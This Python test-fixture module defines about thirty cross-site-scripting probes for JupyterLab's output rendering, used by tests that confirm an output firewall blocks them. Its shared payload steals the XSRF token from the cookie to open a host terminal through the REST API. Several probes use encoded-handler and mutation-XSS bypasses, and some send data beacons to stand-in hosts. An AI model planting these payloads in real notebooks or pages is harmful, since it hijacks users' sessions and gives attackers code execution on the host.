"""Cells that try to run script in the user's browser through the kernel's outputs.

Each probe is a cell. Its script, if it ever ran in JupyterLab, would count itself in
`window.top.__pwned` and open a terminal on the host through the server's REST API (the real
attack: the page holds the user's cookie and XSRF token). Used by the protocol-level attack
tests (tests/attacks/test_output_firewall.py: nothing executable is ever sent) and the browser
test (tests/kernel/test_browser.py: nothing ran, no terminal exists).
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["PAYLOAD", "PROBES", "Probe"]

# What an injected script does: a marker the browser test reads, then the host terminal.
PAYLOAD = (
    "window.top.__pwned=(window.top.__pwned||0)+1;"
    "fetch('/api/terminals',{method:'POST',headers:{'X-XSRFToken':"
    "(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||''}})"
)
_JS = PAYLOAD.replace('"', "&quot;")  # inside a double-quoted HTML attribute
_JS_URL = "javascript:" + PAYLOAD.replace('"', "%22")


@dataclass(frozen=True)
class Probe:
    id: str
    code: str


def _raw(bundle: dict[str, object]) -> str:
    return f"display({bundle!r}, raw=True)"


def _html(markup: str) -> str:
    return _raw({"text/html": markup})


PROBES = (
    Probe("javascript-mime", _raw({"application/javascript": PAYLOAD})),
    Probe(
        "javascript-aliases",
        _raw(
            {
                "text/javascript": PAYLOAD,
                "application/x-javascript": PAYLOAD,
                "application/ecmascript": PAYLOAD,
                "text/plain": "aliases",
            }
        ),
    ),
    Probe("bokeh-exec", _raw({"application/vnd.bokehjs_exec.v0+json": {"code": PAYLOAD}})),
    Probe("script-tag", _html(f"<script>{PAYLOAD}</script>")),
    Probe("img-onerror", _html(f'<img src="x" onerror="{_JS}">')),
    Probe("svg-onload-in-html", _html(f'<svg onload="{_JS}"><circle r="5"/></svg>')),
    Probe("javascript-url", _html(f'<a id="jsurl" href="{_JS_URL}">click</a>')),
    Probe(
        "entity-encoded-url",
        _html('<a id="entity" href="&#106;&#97;vascript&#x3A;' + _JS_URL[11:] + '">x</a>'),
    ),
    Probe(
        "entity-encoded-handler",
        _html('<img src=x onerror="&#119;indow.top.__pwned=(window.top.__pwned||0)+1">'),
    ),
    Probe("iframe-srcdoc", _html(f'<iframe srcdoc="<script>{_JS}</script>"></iframe>')),
    Probe(
        "object-embed",
        _html(
            f'<object data="{_JS_URL}"></object><embed src="data:text/html,<script>{_JS}</script>">'
        ),
    ),
    Probe("base-href", _html('<base href="javascript:/"><a href="x">relative</a>')),
    Probe("meta-refresh", _html(f'<meta http-equiv="refresh" content="0;url={_JS_URL}">')),
    Probe(
        "form-action",
        _html(
            f'<form action="{_JS_URL}"><button id="go" formaction="{_JS_URL}">go</button></form>'
        ),
    ),
    Probe(  # every input becomes a checkbox: no text field to phish with, nothing to submit
        "form-controls",
        _html(
            '<input type="password" name="password" autofocus placeholder="JupyterLab password">'
            f'<input type="image" src="http://198.51.100.7/x.png" formaction="{_JS_URL}">'
            f'<input type="submit" form="jp-main-dock-panel" formaction="{_JS_URL}">'
            f'<input type="checkbox" id="t" onchange="{_JS}"><label for="t">fold</label>'
            '<label for="jp-top-panel">a label for one of the page\'s own controls</label>'
        ),
    ),
    Probe(
        "svg-animate",
        _html(
            f'<svg><animate onbegin="{_JS}" attributeName="x" dur="1s"/>'
            f'<a><set attributeName="href" to="{_JS_URL}"/><text y="20">t</text></a></svg>'
        ),
    ),
    Probe(
        "details-ontoggle",
        _html(f'<details open ontoggle="{_JS}"><summary>s</summary></details>'),
    ),
    Probe(
        "mxss-noscript",
        _html(f"<noscript><p title=\"</noscript><img src=x onerror='{PAYLOAD}'>\">"),
    ),
    Probe(
        "mxss-math-style",
        _html(f"<math><mtext><table><mglyph><style><img src=x onerror='{PAYLOAD}'>"),
    ),
    Probe(
        "mxss-svg-style",
        _html(f"<svg></p><style><a id=\"</style><img src=1 onerror='{PAYLOAD}'>\">"),
    ),
    Probe(
        "command-linker",
        _html('<button id="linker" data-commandlinker-command="terminal:create-new">open</button>'),
    ),
    Probe(
        "css-exfiltration",
        _html(
            "<style>@import url(http://127.0.0.1:9/x.css);"
            "body{background:url(http://127.0.0.1:9/leak)}.cover{position:fixed;inset:0}</style>"
            '<div class="cover">cover</div>'
        ),
    ),
    Probe("image-beacon", _html('<img src="http://127.0.0.1:9/leak?secret=42">')),
    Probe(
        "markdown-raw-html",
        _raw({"text/markdown": f'# title\n<img src=x onerror="{_JS}">\n[link]({_JS_URL})'}),
    ),
    Probe(
        "svg-mime",
        _raw(
            {
                "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_JS}">'
                f"<script>{PAYLOAD}</script><foreignObject>"
                f'<img src="x" onerror="{_JS}"/></foreignObject></svg>'
            }
        ),
    ),
    Probe("latex-href", _raw({"text/latex": "$\\href{" + _JS_URL + "}{x}$"})),
    Probe(
        "repr-html",
        "class Evil:\n"
        f"    def _repr_html_(self):\n        return {f'<img src=x onerror={_JS!r}>'!r}\n"
        "Evil()",
    ),
    Probe(
        "repr-mimebundle",
        "class Evil:\n"
        "    def _repr_mimebundle_(self, include=None, exclude=None):\n"
        f"        return {{'application/javascript': {PAYLOAD!r},"
        f" 'text/html': {f'<script>{PAYLOAD}</script>ok'!r}}}\n"
        "Evil()",
    ),
    Probe(
        "vega-external",
        _raw(
            {
                "application/vnd.vegalite.v5+json": {
                    "data": {"url": "http://127.0.0.1:9/leak"},
                    "mark": "point",
                    "encoding": {"href": {"value": _JS_URL}},
                }
            }
        ),
    ),
    Probe(
        "widget-view",
        _raw(
            {
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": f"<img src=x onerror={PAYLOAD!r}>",
                    "version_major": 2,
                    "_esm": PAYLOAD,
                }
            }
        ),
    ),
    Probe("mixed-case-mime", _raw({"TEXT/HTML; charset=utf-8": f"<script>{PAYLOAD}</script>"})),
)
